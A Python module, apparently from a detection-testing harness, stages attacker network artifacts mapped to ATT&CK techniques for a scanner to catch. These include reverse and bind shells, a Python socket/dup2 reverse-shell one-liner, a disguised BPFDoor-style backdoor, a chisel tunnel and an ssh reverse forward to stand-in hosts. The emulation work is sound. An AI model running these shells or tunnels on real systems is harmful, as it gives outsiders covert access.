"""Connections, listeners and sniffers."""
import os

from parts.unit import Register, require

plant = Register("plant")


def on_socket(g, name):
    """True if standard input, output and error of a process are one socket."""
    links = {os.readlink(f"/proc/{g.processes[name]}/fd/{n}") for n in (0, 1, 2)}
    return len(links) == 1 and links.pop().startswith("socket:")


@plant("P120", "shell on a connection to the outside", "T1059.004 T1071 T1095 T1571", ["203.0.113.66:4444", "203.0.113.66"], {"process": "reverse-shell"}, "ATT&CK T1059.004; Atomic T1059.004 (reverse shell)",
       check=lambda g: require(on_socket(g, "reverse-shell") and g.connected(4444), "no shell on a socket"))
def reverse_shell(g):
    link = g.connect("203.0.113.66", 4444)
    g.start("reverse-shell", ["sh", "-i"], path="/bin/sh", user="www-data", cwd="/var/www/shop", descriptors={n: link.fileno() for n in (0, 1, 2)}, unit="system.slice/nginx.service")
    link.close()


@plant("P121", "shell behind a listener", "T1059.004 T1571 T1095", ["31337", "/tmp/.f"], {"process": ["bind-nc", "bind-sh"]}, "ATT&CK T1059.004, T1571; Atomic T1059.004, T1571-2",
       check=lambda g: require(g.listening(31337), "nobody listens"))
def bind_shell(g):
    os.mkfifo("/tmp/.f")
    back = os.open("/tmp/.f", os.O_RDWR)
    reading, writing = os.pipe()
    g.start("bind-nc", ["nc", "-lk", "-p", "31337"], path="/bin/nc", cwd="/tmp", descriptors={0: reading, 1: back})
    g.start("bind-sh", ["/bin/sh", "-i"], cwd="/tmp", descriptors={0: back, 1: writing, 2: writing})
    for descriptor in (back, reading, writing):
        os.close(descriptor)
    g.wait_for(lambda: g.listening(31337), "listener")


@plant("P122", "Python one-liner that hands a shell to a connection", "T1059.006 T1059.004 T1095", ["203.0.113.99", "dup2"], {"process": "python-shell"}, "ATT&CK T1059.006; Atomic T1059.006",
       check=lambda g: require(g.connected(8443), "no connection"))
def python_shell(g):
    line = ("import socket,os,subprocess as p;c=socket.socket();c.connect((\"203.0.113.99\",8443));"
            "[os.dup2(c.fileno(),n) for n in (0,1,2)];p.call([\"/bin/sh\",\"-i\"])")
    g.start("python-shell", ["python3", "-c", line], path="/usr/bin/python3.11", cwd="/tmp")
    g.wait_for(lambda: g.connected(8443), "connection")


@plant("P123", "back door that waits for a magic packet behind a filter", "T1205.002 T1205 T1036", ["/dev/shm/kdmtmpflush", "kdmtmpflush", "console-kit-dae", "/run/haldrund.pid"], {"process": "packet-backdoor"}, "ATT&CK T1205.002 (BPFDoor)",
       check=lambda g: require(g.exe("packet-backdoor").endswith("(deleted)") and any(l.split()[2] == "3" and l.split()[3] == "0003" for l in g.read("/proc/net/packet").splitlines()[1:]), "no packet socket"))
def packet_backdoor(g):
    g.program("/dev/shm/kdmtmpflush", "kdmtmpflush")
    g.start("packet-backdoor", ["/usr/sbin/console-kit-daemon", "--no-daemon"], path="/dev/shm/kdmtmpflush", env={}, script="comm\tconsole-kit-dae\npacket")
    os.unlink("/dev/shm/kdmtmpflush")
    g.write("/run/haldrund.pid", f"{g.processes['packet-backdoor']}\n", 0o644)


@plant("P124", "sniffer on the network card", "T1040", ["ntpd-stat", "/var/tmp/.cap"], {"process": "sniffer", "path": "/var/tmp/.cap"}, "ATT&CK T1040; Atomic T1040-1",
       check=lambda g: require(len(g.read("/proc/net/packet").splitlines()) > 2, "no packet socket"))
def sniffer(g):
    g.program("/usr/local/sbin/ntpd-stat", "sniff")
    g.start("sniffer", ["ntpd-stat", "-i", "eth0", "-w", "/var/tmp/.cap"], path="/usr/local/sbin/ntpd-stat", script="promisc\teth0\nopen\t/var/tmp/.cap")


@plant("P125", "tunnel to the outside", "T1572 T1090 T1090.002", ["chisel", "R:socks", "/opt/.c/chisel"], {"process": "tunnel", "path": "/opt/.c/chisel"}, "ATT&CK T1572, T1090; Atomic T1572",
       check=lambda g: require(g.connected(443), "no connection"))
def tunnel(g):
    g.program("/opt/.c/chisel", "chisel")
    g.start("tunnel", ["/opt/.c/chisel", "client", "--keepalive", "25s", "203.0.113.99:443", "R:0.0.0.0:1080:socks", "R:socks"], script="comm\tchisel\ntcp-connect\t203.0.113.99\t443\t10.20.0.15")


@plant("P126", "raw ICMP socket of an unknown program", "T1095 T1205", ["/usr/games/.icmpd", "icmp"], {"process": "icmp-backdoor", "path": "/usr/games/.icmpd"}, "ATT&CK T1095; Atomic T1095-1",
       check=lambda g: require(len(g.read("/proc/net/raw").splitlines()) > 1, "no raw socket"))
def icmp_backdoor(g):
    g.program("/usr/games/.icmpd", "icmpd")
    g.start("icmp-backdoor", ["icmpd"], path="/usr/games/.icmpd", script="icmp")


@plant("P127", "listener of a program nobody installed, reached from outside", "T1571 T1071 T1105", ["54321", "/var/lib/nginx/.ngx-cache"], {"process": "listener", "path": "/var/lib/nginx/.ngx-cache"}, "ATT&CK T1571; Atomic T1571-2",
       check=lambda g: require(g.listening(54321), "nobody listens"))
def listener(g):
    g.program("/var/lib/nginx/.ngx-cache", "ngx")
    g.start("listener", ["nginx: cache manager process"], path="/var/lib/nginx/.ngx-cache", user="www-data", script="comm\tnginx\ntcp-listen\t0.0.0.0\t54321")
    g.ask_world(do="connect", source="203.0.113.66", port=54321)


@plant("P128", "remote login forwarded from inside to outside", "T1572 T1021.004 T1090", ["2222:localhost:22", "tun@203.0.113.66", "/tmp/.id"], {"process": "ssh-reverse"}, "ATT&CK T1572; Atomic T1572",
       check=lambda g: require("2222:localhost:22" in g.read(f"/proc/{g.processes['ssh-reverse']}/cmdline"), "no such arguments"))
def reverse_forward(g):
    g.write("/tmp/.id", "-----BEGIN OPENSSH PRIVATE KEY-----\nbm90IGEga2V5\n-----END OPENSSH PRIVATE KEY-----\n", 0o600)
    g.start("ssh-reverse", ["ssh", "-NT", "-R", "2222:localhost:22", "-i", "/tmp/.id", "-o", "StrictHostKeyChecking=no", "-p", "443", "tun@203.0.113.66"], path="/usr/bin/ssh")


@plant("P129", "listener on a UNIX socket in a hidden place, for a proxy", "T1090 T1559 T1564.001", ["/tmp/.dbus-sock/ctl", "/usr/local/libexec/dbus-broker-x"], {"process": "local-proxy", "path": "/tmp/.dbus-sock/ctl"}, "ATT&CK T1090, T1559")
def local_proxy(g):
    g.directory("/tmp/.dbus-sock", 0o700)
    g.program("/usr/local/libexec/dbus-broker-x", "broker")
    g.start("local-proxy", ["dbus-broker-x"], path="/usr/local/libexec/dbus-broker-x", script="unix\t/tmp/.dbus-sock/ctl\nudp-listen\t0.0.0.0\t1900")
